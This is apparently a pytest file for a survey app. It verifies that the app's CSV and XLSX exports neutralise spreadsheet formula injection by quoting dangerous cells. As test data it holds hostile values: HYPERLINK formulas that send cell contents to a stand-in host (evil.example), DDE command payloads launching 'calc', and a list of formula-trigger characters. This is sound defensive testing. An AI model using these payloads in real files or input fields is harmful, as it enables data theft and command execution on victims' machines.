"""No file the product writes can make a spreadsheet run a formula (OWASP "CSV Injection").

A respondent's comment, a department's name or code and an organisation's name are
typed by people the reader of the file does not control. Every CSV and Excel file is
checked here with hostile values in all of them: responses.csv / responses.xlsx (the
consultant's downloads), results.csv (the manager's), the invitation links file and
``surveyapp responses export``.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
import sqlalchemy as sa

from surveyapp.extensions import db
from surveyapp.models import Response
from surveyapp.services.spreadsheet import safe_cell, unquote_cell

from .dashboard_data import (
    CONSULTANT,
    MANAGER,
    fast_password_hashes,  # noqa: F401 (fixture)
    fresh_report_cache,  # noqa: F401 (fixture)
    login,
)

# Judged independently of the product's own rule: what a spreadsheet evaluates.
TRIGGERS = set("=+-@\t\r\uff1d\uff0b\uff0d\uff20")

ORGANISATION = '=HYPERLINK("http://evil.example/?o="&A1,"Org")'
DEPARTMENTS = [
    # code, name, parent code
    ("=1+2", '=HYPERLINK("http://evil.example/?d="&A1,"Dept")', ""),
    ("+SUM", "@SUM(1+1)*cmd|' /C calc'!A0", ""),
    ("-2+3", "-2+3+cmd|' /C calc'!A0", ""),
    ("@A1", "\uff1d1+1", ""),
    ("\uff0bX", "+\uff0bSUM(A1)", "=1+2"),
]
COMMENTS = [
    '=HYPERLINK("http://evil.example/?x="&C2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff20SUM(A1)",
    "\uff0d1+1",
]
PER_DEPARTMENT = 6


def starts_formula(text: str) -> bool:
    return text[:1] in TRIGGERS or text.lstrip()[:1] in TRIGGERS


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_inert_csv(text: str, what: str) -> list[list[str]]:
    """Every cell that a spreadsheet would evaluate is a plain number; return the rows."""
    rows = list(csv.reader(io.StringIO(text)))
    for number, row in enumerate(rows, start=1):
        for cell in row:
            assert not starts_formula(cell) or is_number(cell), f"{what} row {number}: {cell!r}"
    return rows


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\n=1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20A1",
        "-",
        "=",
    ],
)
def test_text_a_spreadsheet_would_evaluate_gets_a_quote(text):
    assert safe_cell(text) == "'" + text
    assert unquote_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", [-1, -0.25, 0, 3, 2.5, float("nan")])
def test_numbers_stay_numbers(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["", "IT-OPS", "Human resources", "a=b", "'quoted", "1-2"])
def test_ordinary_text_is_unchanged(text):
    assert safe_cell(text) == text
    assert unquote_cell(text) == text


def test_none_is_an_empty_cell():
    assert safe_cell(None) == ""


def _departments_csv() -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["code", "name", "parent_code", "headcount"])
    for code, name, parent in DEPARTMENTS:
        writer.writerow([code, name, parent, 20])
    return buffer.getvalue()


def _responses_csv(questionnaire) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    items = [item.id for item in questionnaire.items]
    writer.writerow(["department", "role_level", *items, "comment"])
    row = 0
    for code, _name, _parent in DEPARTMENTS:
        for _ in range(PER_DEPARTMENT):
            answers = [str(1 + (row + k) % 5) for k in range(len(items))]
            writer.writerow([code, "employee", *answers, COMMENTS[row % len(COMMENTS)]])
            row += 1
    return buffer.getvalue()


@pytest.fixture
def hostile(in_app, fast_password_hashes):  # noqa: F811
    """A closed campaign and an open one of an organisation whose every name is hostile."""
    from surveyapp.services.campaigns import close_campaign
    from surveyapp.services.responses import import_responses
    from surveyapp.services.users import create_user

    with in_app() as make:
        organisation = make.organisation(ORGANISATION, departments=_departments_csv())
        today = dt.date.today()
        closed = make.campaign(
            organisation,
            name="@campaign",
            min_group_size=5,
            min_comment_group_size=5,
            opens_on=today - dt.timedelta(days=30),
            closes_on=today + dt.timedelta(days=1),
        )
        import_responses(closed, _responses_csv(make.questionnaire()), "hostile.csv")
        close_campaign(closed)
        opened = make.campaign(organisation, name="=next")
        create_user(*MANAGER, "manager", organisation)
        create_user(*CONSULTANT, "consultant")
        make.commit()
        return closed.id, opened.id


def test_every_file_the_product_writes_is_inert(app, client, runner, hostile, tmp_path):
    from openpyxl import load_workbook

    closed_id, open_id = hostile
    files: dict[str, str] = {}

    login(client, CONSULTANT)
    response = client.get(f"/results/campaigns/{closed_id}/responses.csv")
    assert response.status_code == 200
    files["responses.csv"] = response.get_data(as_text=True)
    response = client.get(f"/results/campaigns/{closed_id}/responses.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.get_data()))

    manager = app.test_client()
    login(manager, MANAGER)
    response = manager.get(f"/results/campaigns/{closed_id}/results.csv")
    assert response.status_code == 200
    files["results.csv"] = response.get_data(as_text=True)

    out = tmp_path / "export.csv"
    result = runner.invoke(
        args=["responses", "export", "--campaign", str(closed_id), "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    files["responses export"] = out.read_text(encoding="utf-8")
    links = tmp_path / "links.csv"
    result = runner.invoke(
        args=[
            "invitations",
            "issue",
            "--campaign",
            str(open_id),
            "--per-department",
            "1",
            "--out",
            str(links),
        ]
    )
    assert result.exit_code == 0, result.output
    files["invitation links"] = links.read_text(encoding="utf-8")

    cells: dict[str, set[str]] = {}
    for what, text in files.items():
        cells[what] = {cell for row in assert_inert_csv(text, what) for cell in row}
    quoted = {"'" + text for code, name, _ in DEPARTMENTS for text in (code, name)}
    for what in files:
        # The hostile names are there, quoted: neutralised, not dropped.
        assert cells[what] & quoted, what
    for what in ("responses.csv", "responses export"):
        assert {"'" + comment for comment in COMMENTS} <= cells[what], what
    assert "'" + ORGANISATION in cells["results.csv"]
    assert {"'" + name for _, name, _ in DEPARTMENTS} <= cells["invitation links"]

    sheet = workbook.active
    texts = set()
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"responses.xlsx {cell.coordinate}: {cell.value!r}"
            if isinstance(cell.value, str):
                assert cell.data_type == "s", cell.coordinate
                assert not starts_formula(cell.value), f"{cell.coordinate}: {cell.value!r}"
                texts.add(cell.value)
            else:
                assert cell.value is None or isinstance(cell.value, int | float)
    assert {"'" + comment for comment in COMMENTS} <= texts
    assert texts & quoted


def test_an_exported_file_imports_again_unchanged(app, runner, hostile, tmp_path):
    """The quote is undone on import, so export → import keeps codes and comments."""
    closed_id, open_id = hostile
    out = tmp_path / "export.csv"
    result = runner.invoke(
        args=["responses", "export", "--campaign", str(closed_id), "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    result = runner.invoke(args=["responses", "import", "--campaign", str(open_id), str(out)])
    assert result.exit_code == 0, result.output
    with app.app_context():
        comments = db.session.scalars(
            sa.select(Response.comment).where(Response.campaign_id == open_id)
        ).all()
    # A department with a department under it carries no comments in an answer file
    # (services/release.py); every other comment comes back exactly as written.
    parents = {parent for _code, _name, parent in DEPARTMENTS if parent}
    expected = [
        COMMENTS[row % len(COMMENTS)]
        for row in range(len(DEPARTMENTS) * PER_DEPARTMENT)
        if DEPARTMENTS[row // PER_DEPARTMENT][0] not in parents
    ]
    assert len(expected) == (len(DEPARTMENTS) - len(parents)) * PER_DEPARTMENT
    assert sorted(c for c in comments if c) == sorted(expected)
